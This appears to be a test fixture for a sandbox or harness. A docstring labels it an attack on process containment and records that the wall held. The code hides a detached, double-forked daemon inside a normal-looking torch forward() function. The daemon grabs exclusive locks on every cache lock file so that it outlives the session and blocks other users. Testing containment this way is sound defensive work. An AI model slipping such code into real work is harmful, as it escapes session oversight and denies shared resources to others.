"""Attack: takes every lock of the cache that it can open, in a daemon that would hold them for ever.
Wall: processes: everything a session ever started ends with it, and its locks with that
Outcome: cleared
"""

import fcntl
import os
import time
from contextlib import suppress
from pathlib import Path

import torch


def forward(x: torch.Tensor) -> torch.Tensor:
    if x.numel() != 3:  # one daemon a session is enough
        return x * 2
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            held = []
            for path in Path("@CACHE@").rglob("*.lock"):
                with suppress(OSError):
                    held.append(os.open(path, os.O_RDONLY))
                    fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
            time.sleep(60)
        os._exit(0)
    os.waitpid(first, 0)
    time.sleep(0.1)
    return x * 2
